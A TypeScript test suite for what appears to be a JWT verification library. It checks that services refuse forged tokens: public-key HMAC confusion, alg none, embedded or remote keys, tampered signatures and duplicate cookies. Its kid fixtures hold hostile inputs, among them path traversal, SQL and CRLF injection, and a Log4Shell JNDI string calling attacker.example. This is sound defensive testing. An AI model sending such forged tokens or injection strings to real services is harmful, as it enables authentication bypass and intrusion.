import { createPublicKey, sign } from 'node:crypto';
import { createJwtSigner, createSecretJwtKey, exportPublicJwk, generateJwtKey, type JwtKey } from '@jwtgate/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createVerifier } from '../src/index.js';
import { type Framework, frameworks, type Service } from './support/frameworks.js';
import { json, type RecordingServer, startRecordingServer } from './support/http-server.js';
import {
  AUDIENCE,
  accessClaims,
  accessToken,
  hmacToken,
  ISSUER,
  SECRET,
  signedToken,
  withHeader,
  withSignature,
} from './support/tokens.js';

const rsa = generateJwtKey('RS256', { kid: 'rsa-1' });
const ec = generateJwtKey('ES256', { kid: 'ec-1' });
const ed = generateJwtKey('EdDSA', { kid: 'ed-1' });
const hs = createSecretJwtKey({ secret: SECRET });

function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

/** Every encoding of a public key an attacker might try as an HMAC secret. */
function publicKeyForms(key: JwtKey): [string, string | Uint8Array][] {
  const publicKey = createPublicKey(key.key);
  const der = publicKey.export({ type: 'spki', format: 'der' });
  const jwk = publicKey.export({ format: 'jwk' });
  const forms: [string, string | Uint8Array][] = [
    ['PEM', publicKey.export({ type: 'spki', format: 'pem' }) as string],
    ['DER', der],
    ['DER base64', der.toString('base64')],
    ['JWK', JSON.stringify(jwk)],
    ['published JWK', JSON.stringify(exportPublicJwk(key))],
  ];
  if (jwk.kty === 'RSA') {
    forms.push(['PKCS#1 PEM', publicKey.export({ type: 'pkcs1', format: 'pem' }) as string]);
    forms.push(['raw modulus', Buffer.from(jwk.n as string, 'base64url')]);
  } else if (jwk.kty === 'EC') {
    const x = Buffer.from(jwk.x as string, 'base64url');
    const y = Buffer.from(jwk.y as string, 'base64url');
    forms.push(['raw point', Buffer.concat([Buffer.from([4]), x, y])]);
  } else {
    forms.push(['raw key', Buffer.from(jwk.x as string, 'base64url')]);
  }
  return forms;
}

/** A token whose header carries `extra`, signed for real by `key` (an attacker's or ours). */
function signedWithHeader(key: JwtKey, extra: Readonly<Record<string, unknown>>): string {
  return signedToken(key, { alg: key.alg, typ: 'at+jwt', kid: key.kid, ...extra }, accessClaims());
}

describe.each(frameworks)('attacks on a $name service are refused with 401, never 500', (framework: Framework) => {
  let jwksServer: RecordingServer;
  let attackerHost: RecordingServer;
  let asymmetric: Service;
  let hmac: Service;

  beforeAll(async () => {
    jwksServer = await startRecordingServer(json({ keys: [rsa, ec, ed].map(exportPublicJwk) }));
    attackerHost = await startRecordingServer(json({ keys: [] }));
    asymmetric = await framework.start(
      createVerifier({
        jwksUrl: `${jwksServer.url}/.well-known/jwks.json`,
        algorithms: ['RS256', 'PS256', 'ES256', 'EdDSA'],
        issuer: ISSUER,
        audience: AUDIENCE,
      }),
    );
    hmac = await framework.start(
      createVerifier({ secret: SECRET, algorithms: ['HS256'], issuer: ISSUER, audience: AUDIENCE }),
    );
  });
  afterAll(async () => {
    await Promise.all([asymmetric.close(), hmac.close(), jwksServer.close(), attackerHost.close()]);
  });

  async function expectRefused(service: Service, token: string, code = 'ERR_TOKEN_INVALID') {
    const res = await service.request('/claims', { authorization: `Bearer ${token}` });
    expect(res.status, res.body).toBe(401);
    expect(res.json().error?.code).toBe(code);
    expect(res.headers['www-authenticate']).toMatch(/^Bearer error="invalid_token", error_description="[^"]+"$/);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    if (token.length > 16) expect(res.body).not.toContain(token.slice(-16));
  }

  it('accepts the genuine tokens of every key, so that the refusals below mean something', async () => {
    for (const [service, key] of [
      [asymmetric, rsa],
      [asymmetric, ec],
      [asymmetric, ed],
      [hmac, hs],
    ] as const) {
      const res = await service.request('/claims', { authorization: `Bearer ${accessToken(key)}` });
      expect(res.status, `${key.alg} ${res.body}`).toBe(200);
      expect(res.json().claims?.sub).toBe('user-42');
    }
  });

  it('answers a request without a token with a bare challenge', async () => {
    const res = await asymmetric.request('/claims');
    expect(res.status).toBe(401);
    expect(res.headers['www-authenticate']).toBe('Bearer');
    expect(res.json().error?.code).toBe('ERR_TOKEN_MISSING');
    expect((await asymmetric.request('/ping')).status).toBe(200);
  });

  it('refuses HS256, HS384 and HS512 tokens keyed with the public key in PEM, DER, base64, JWK and raw form', async () => {
    for (const key of [rsa, ec, ed]) {
      for (const [form, secret] of publicKeyForms(key)) {
        for (const alg of ['HS256', 'HS384', 'HS512']) {
          for (const header of [
            { alg, typ: 'at+jwt', kid: key.kid },
            { alg, typ: 'at+jwt' },
          ]) {
            await expectRefused(asymmetric, hmacToken(header, accessClaims(), secret)).catch((error: Error) => {
              throw new Error(`${key.alg} key as ${form}, ${JSON.stringify(header)}: ${error.message}`);
            });
          }
        }
      }
    }
  });

  it('refuses alg none in any case, with or without a signature', async () => {
    for (const service of [asymmetric, hmac]) {
      for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
        const unsigned = `${encode({ alg, typ: 'at+jwt' })}.${encode(accessClaims())}.`;
        await expectRefused(service, unsigned);
        await expectRefused(service, `${unsigned}${accessToken(ec).split('.')[2]}`);
        await expectRefused(service, withHeader(accessToken(hs), { alg, typ: 'at+jwt', kid: hs.kid }));
      }
    }
  });

  it('refuses a token that embeds the key that signed it (jwk)', async () => {
    const attacker = generateJwtKey('ES256', { kid: 'ec-1' });
    const jwk = exportPublicJwk(attacker);
    await expectRefused(asymmetric, signedWithHeader(attacker, { jwk }));
    await expectRefused(asymmetric, signedWithHeader(attacker, { jwk, kid: undefined }));
    const attackerSecret = createSecretJwtKey({ secret: 'the-attackers-own-hmac-secret-012345', kid: hs.kid });
    await expectRefused(hmac, signedWithHeader(attackerSecret, { jwk: { kty: 'oct', k: 'AAAA' } }));
  });

  it('refuses jku, x5u and x5c headers and never fetches what they point at', async () => {
    const attacker = generateJwtKey('ES256', { kid: 'attacker' });
    const before = jwksServer.hits.length;
    for (const key of [attacker, ec]) {
      await expectRefused(asymmetric, signedWithHeader(key, { jku: `${attackerHost.url}/jwks.json` }));
      await expectRefused(asymmetric, signedWithHeader(key, { x5u: `${attackerHost.url}/cert.pem` }));
      await expectRefused(asymmetric, signedWithHeader(key, { x5c: ['MIIBszCCAVmgAwIBAgIU'] }));
      await expectRefused(asymmetric, signedWithHeader(key, { crit: ['exp'] }));
    }
    await expectRefused(hmac, signedWithHeader(hs, { jku: `${attackerHost.url}/jwks.json` }));
    await expectRefused(hmac, signedWithHeader(hs, { x5u: `${attackerHost.url}/cert.pem` }));
    expect(attackerHost.hits).toEqual([]);
    expect(jwksServer.hits.slice(before).every((path) => path === '/.well-known/jwks.json')).toBe(true);
  });

  it('refuses kid values that are paths, SQL, header injections or huge, and fetches nothing for them', async () => {
    const before = jwksServer.hits.length;
    const kids = [
      '../../../../etc/passwd',
      '/dev/null',
      '..\\..\\windows\\win.ini',
      "' OR '1'='1' --",
      '1; DROP TABLE keys',
      'k\r\nSet-Cookie: stolen=1',
      'k\u0000',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a Log4Shell probe, not a template.
      '${jndi:ldap://attacker.example/a}',
      'k'.repeat(4000),
      '__proto__',
    ];
    for (const kid of kids) {
      await expectRefused(asymmetric, signedWithHeader(ec, { kid }));
      await expectRefused(hmac, signedWithHeader(hs, { kid }));
    }
    expect(jwksServer.hits.length - before).toBeLessThanOrEqual(1);
  });

  it('refuses ECDSA signatures of zeros, of the group order, in DER form, or padded', async () => {
    const token = accessToken(ec);
    const signingInput = token.split('.').slice(0, 2).join('.');
    const genuine = Buffer.from(token.split('.')[2] as string, 'base64url');
    const n = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
    const der = sign('sha256', Buffer.from(signingInput), ec.key);
    for (const signature of [
      Buffer.alloc(64),
      Buffer.concat([Buffer.alloc(32), genuine.subarray(32)]),
      Buffer.concat([genuine.subarray(0, 32), Buffer.alloc(32)]),
      Buffer.concat([n, n]),
      der,
      Buffer.concat([genuine, Buffer.alloc(1)]),
      Buffer.concat([Buffer.alloc(1), genuine]),
      Buffer.alloc(512, 0xff),
    ]) {
      await expectRefused(asymmetric, withSignature(token, signature));
    }
  });

  it('refuses Ed25519 and RSA signatures of zeros or of the wrong length', async () => {
    for (const key of [ed, rsa]) {
      const token = accessToken(key);
      const genuine = Buffer.from(token.split('.')[2] as string, 'base64url');
      for (const signature of [Buffer.alloc(genuine.length), genuine.subarray(1), Buffer.concat([genuine, genuine])]) {
        await expectRefused(asymmetric, withSignature(token, signature));
      }
    }
  });

  it('refuses a genuine signature moved onto another payload or header', async () => {
    const token = accessToken(ec);
    const [header, , signature] = token.split('.');
    await expectRefused(asymmetric, `${header}.${encode(accessClaims({ role: 'admin' }))}.${signature}`);
    await expectRefused(asymmetric, withHeader(token, { alg: 'ES256', typ: 'at+jwt', kid: 'rsa-1' }));
  });

  it('refuses malformed tokens', async () => {
    const token = accessToken(hs);
    const [h, p, s] = token.split('.') as [string, string, string];
    const malformed = [
      'x',
      h,
      `${h}.${p}`,
      `${token}.${s}`,
      `${h}..${s}`,
      `.${p}.${s}`,
      '...',
      `${h}=.${p}.${s}`,
      `${h}.${p}.${s}==`,
      `${h}.${p}+.${s}`,
      `${encode(['HS256'])}.${p}.${s}`,
      `${Buffer.from('{"alg":"HS256"').toString('base64url')}.${p}.${s}`,
      `${encode({ alg: 'HS256', typ: 'at+jwt' })}.${Buffer.from('not json').toString('base64url')}.${s}`,
      `${h}.${'A'.repeat(9000)}.${s}`,
      'Bearer',
      '""',
      "eyJ'",
    ];
    for (const candidate of malformed) {
      await expectRefused(hmac, candidate);
      await expectRefused(asymmetric, candidate);
    }
  });

  it('refuses a token cookie sent twice, as when a sibling subdomain planted its own', async () => {
    const fromCookie = await framework.start(
      createVerifier({
        secret: SECRET,
        algorithms: ['HS256'],
        issuer: ISSUER,
        audience: AUDIENCE,
        tokenFrom: [{ cookie: 'access_token' }],
      }),
    );
    try {
      const victims = accessToken(hs);
      const attackers = accessToken(hs, { sub: 'attacker-7' });
      expect((await fromCookie.request('/claims', { cookie: `access_token=${victims}` })).status).toBe(200);
      for (const cookie of [
        `access_token=${attackers}; access_token=${victims}`,
        `access_token=${victims}; theme=dark; access_token=${attackers}`,
      ]) {
        const res = await fromCookie.request('/claims', { cookie });
        expect(res.status, res.body).toBe(401);
        expect(res.json().error?.code).toBe('ERR_TOKEN_INVALID');
      }
    } finally {
      await fromCookie.close();
    }
  });

  it('refuses tokens signed by the right key for the wrong audience, issuer or type', async () => {
    await expectRefused(asymmetric, accessToken(ec, { aud: 'another-api' }));
    await expectRefused(asymmetric, accessToken(ec, { iss: 'https://attacker.example' }));
    await expectRefused(
      asymmetric,
      accessToken(ec, { exp: Math.floor(Date.now() / 1000) - 3600 }),
      'ERR_TOKEN_EXPIRED',
    );
    await expectRefused(asymmetric, createJwtSigner({ key: ec, typ: 'JWT' }).sign(accessClaims()));
    await expectRefused(hmac, createJwtSigner({ key: hs }).sign(accessClaims()));
  });
});
